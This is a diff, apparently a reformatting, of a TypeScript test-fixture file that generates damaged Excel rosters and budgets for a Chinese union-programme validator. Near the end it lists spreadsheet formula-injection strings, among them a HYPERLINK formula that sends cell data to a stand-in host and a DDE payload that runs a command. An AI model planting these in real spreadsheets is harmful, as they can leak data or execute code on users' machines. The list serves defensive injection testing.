+        "13512345678",
+        "",
+      ]);
+      r.rows.push([
+        10,
+        "吴霞",
+        "女",
+        idOf("19860606", "102"),
+        "玉溪某烟草配套企业",
+        "是",
+        "城市困难职工解困脱困工作人员",
+        "W4",
+        "第1批",
+        d(2024, 10, 8),
+        "13512345679",
+        "",
+      ]);
     }),
   },
-  { file: "retired.xlsx", damage: "a man born 1960 (retired before the programme)", exit: 0, expected: [at("RETIRED", "D3")], make: setRoster(0, R.id, idOf("19600312", "011")) },
+  {
+    file: "retired.xlsx",
+    damage: "a man born 1960 (retired before the programme)",
+    exit: 0,
+    expected: [at("RETIRED", "D3")],
+    make: setRoster(0, R.id, idOf("19600312", "011")),
+  },
   {
     file: "history-duplicate.xlsx",
     damage: "a person already in the 2024 history sheet",
     exit: 1,
     expected: [at("DUPLICATE_HISTORY", "D3")],
-    make: edit((s) => s.push({ name: "历史记录", header: ["姓名", "身份证号", "项目", "年份"], rows: [["张伟", id0(), "职工疗休养（外单位）", 2024], ["某某", idOf("19700101", "111"), "W1", 2023]], textColumns: ["身份证号"] })),
+    make: edit((s) =>
+      s.push({
+        name: "历史记录",
+        header: ["姓名", "身份证号", "项目", "年份"],
+        rows: [
+          ["张伟", id0(), "职工疗休养（外单位）", 2024],
+          ["某某", idOf("19700101", "111"), "W1", 2023],
+        ],
+        textColumns: ["身份证号"],
+      })
+    ),
   },
-  { file: "budget-exceeded.xlsx", damage: "budget sources smaller than the own union's share", exit: 0, expected: [{ code: "BUDGET_EXCEEDED", sheet: "预算" }], make: edit((s) => (sheet(s, "预算").rows = [["高新区财政年初预算", 10000]])) },
-  { file: "budget-amount-text.xlsx", damage: "budget amount 六万 (not a number)", exit: 1, expected: [at("RATE_INVALID", "B2", "预算", "金额“六万”无法使用")], make: edit((s) => (sheet(s, "预算").rows[0][1] = "六万")) },
+  {
+    file: "budget-exceeded.xlsx",
+    damage: "budget sources smaller than the own union's share",
+    exit: 0,
+    expected: [{ code: "BUDGET_EXCEEDED", sheet: "预算" }],
+    make: edit((s) => (sheet(s, "预算").rows = [["高新区财政年初预算", 10000]])),
+  },
+  {
+    file: "budget-amount-text.xlsx",
+    damage: "budget amount 六万 (not a number)",
+    exit: 1,
+    expected: [at("RATE_INVALID", "B2", "预算", "金额“六万”无法使用")],
+    make: edit((s) => (sheet(s, "预算").rows[0][1] = "六万")),
+  },
 
   // --- dates in the roster
   {
@@ -466,7 +970,7 @@ export const CASES: CaseDef[] = [
   },
   {
     file: "dates-as-serials.xlsx",
-    damage: "dates as bare serial numbers (no date format), one as text \"45444\"",
+    damage: 'dates as bare serial numbers (no date format), one as text "45444"',
     exit: 0,
     expected: [],
     make: edit((s) => {
@@ -474,15 +978,61 @@ export const CASES: CaseDef[] = [
       roster(s).rows[7][R.date] = "45444";
     }),
   },
-  { file: "date-outside-window-text.xlsx", damage: "2024年11月15日 for W1 (ends 10-31)", exit: 1, expected: [at("DATE_OUTSIDE_WINDOW", "J3")], make: setRoster(0, R.date, "2024年11月15日") },
-  { file: "date-unreadable.xlsx", damage: "date typed as 下月初", exit: 1, expected: [at("DATE_OUTSIDE_WINDOW", "J3", "花名册", "无法识别日期“下月初”")], make: setRoster(0, R.date, "下月初") },
-  { file: "date-impossible.xlsx", damage: "date 2024-02-30", exit: 1, expected: [at("DATE_OUTSIDE_WINDOW", "J3")], make: setRoster(0, R.date, "2024-02-30") },
+  {
+    file: "date-outside-window-text.xlsx",
+    damage: "2024年11月15日 for W1 (ends 10-31)",
+    exit: 1,
+    expected: [at("DATE_OUTSIDE_WINDOW", "J3")],
+    make: setRoster(0, R.date, "2024年11月15日"),
+  },
+  {
+    file: "date-unreadable.xlsx",
+    damage: "date typed as 下月初",
+    exit: 1,
+    expected: [at("DATE_OUTSIDE_WINDOW", "J3", "花名册", "无法识别日期“下月初”")],
+    make: setRoster(0, R.date, "下月初"),
+  },
+  {
+    file: "date-impossible.xlsx",
+    damage: "date 2024-02-30",
+    exit: 1,
+    expected: [at("DATE_OUTSIDE_WINDOW", "J3")],
+    make: setRoster(0, R.date, "2024-02-30"),
+  },
 
   // --- files that are not workbooks
-  { file: "not-a-workbook.xlsx", damage: "a CSV text file named .xlsx", exit: 2, expected: [], reason: "不是 .xlsx 工作簿", make: () => ({ bytes: Buffer.from("姓名,身份证号\n张伟,530402198503120113\n", "utf8") }) },
-  { file: "empty-file.xlsx", damage: "a zero-byte file", exit: 2, expected: [], reason: "文件为空", make: () => ({ bytes: Buffer.alloc(0) }) },
-  { file: "corrupt-zip.xlsx", damage: "a workbook cut off halfway (corrupt zip)", exit: 2, expected: [], reason: "已损坏", make: async () => ({ bytes: truncate(await toBuffer(buildWorkbook(baseSheets()))) }) },
-  { file: "zip-not-workbook.xlsx", damage: "a valid zip holding no workbook (e.g. a renamed .docx)", exit: 2, expected: [], reason: "不是 .xlsx 工作簿", make: () => ({ bytes: STORED_ZIP }) },
+  {
+    file: "not-a-workbook.xlsx",
+    damage: "a CSV text file named .xlsx",
+    exit: 2,
+    expected: [],
+    reason: "不是 .xlsx 工作簿",
+    make: () => ({ bytes: Buffer.from("姓名,身份证号\n张伟,530402198503120113\n", "utf8") }),
+  },
+  {
+    file: "empty-file.xlsx",
+    damage: "a zero-byte file",
+    exit: 2,
+    expected: [],
+    reason: "文件为空",
+    make: () => ({ bytes: Buffer.alloc(0) }),
+  },
+  {
+    file: "corrupt-zip.xlsx",
+    damage: "a workbook cut off halfway (corrupt zip)",
+    exit: 2,
+    expected: [],
+    reason: "已损坏",
+    make: async () => ({ bytes: truncate(await toBuffer(buildWorkbook(baseSheets()))) }),
+  },
+  {
+    file: "zip-not-workbook.xlsx",
+    damage: "a valid zip holding no workbook (e.g. a renamed .docx)",
+    exit: 2,
+    expected: [],
+    reason: "不是 .xlsx 工作簿",
+    make: () => ({ bytes: STORED_ZIP }),
+  },
   {
     file: "encrypted.xlsx",
     damage: "a password-protected workbook (an OLE compound file, simulated by its header)",
@@ -493,7 +1043,14 @@ export const CASES: CaseDef[] = [
   },
 ];
 
-export const INJECTION_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A2)", "=1+1", "=cmd|' /C calc'!A0"];
+export const INJECTION_NAMES = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+  "+1",
+  "-1",
+  "@SUM(A1:A2)",
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+];
 
 // ---------------------------------------------------------------- damage helpers
 
@@ -611,6 +1168,6 @@ if (require.main === module) {
     (e) => {
       console.error(e);
       process.exit(1);
-    },
+    }
   );
 }
